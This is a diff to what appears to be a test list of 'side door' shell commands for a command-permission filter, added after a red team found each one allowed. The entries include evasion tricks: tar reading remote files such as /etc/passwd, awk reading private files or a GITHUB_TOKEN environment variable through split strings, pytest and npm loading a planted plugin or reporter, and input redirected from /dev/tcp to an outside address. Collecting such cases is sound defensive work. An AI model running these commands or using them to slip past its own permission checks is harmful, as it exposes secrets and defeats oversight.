@@ -220,6 +220,26 @@ SIDE_DOORS = [
     "ls; ./prog",
     "cd /tmp && ./prog",
     "python -c 'import os'",
+    # Red team after the rebuild: each of these was allowed.
+    "tar -tf evil:x",
+    "tar -tvf host:/etc/passwd",
+    "tar -t -f user@host:a.tar",
+    "tar -tfhost:a.tar",
+    "awk 'BEGIN{ARGV[1]=\"/home/u/private/x\";ARGC=2}{print}'",
+    "awk 'BEGIN{ARGV[1]=\"/home/u/.net\" \"rc\"; ARGC=2} 1'",
+    "awk 'BEGIN{print SYMTAB[\"ENV\" \"IRON\"][\"GITHUB_TOKEN\"]}'",
+    "awk 'BEGIN{f=FUNCTAB[\"x\"]}'",
+    "wc --f=list",
+    "du --f=list",
+    "pytest -- -p evil",
+    "pytest tests -- -pevil",
+    "python -m pytest -- -p evil",
+    "npm test -- --reporter=./evil.js",
+    "npm test -- --reporter ./evil.js",
+    "cat < /dev/tcp/1.2.3.4/80",
+    "head < /dev/udp/1.2.3.4/53",
+    "grep x 0< /dev/tcp/1.2.3.4/80",
+    "cd /dev && cat < tcp/1.2.3.4/80",
 ]
 # Class 7: a path deny rule covers every argument, not only redirections.
 DENIED_PATHS = [
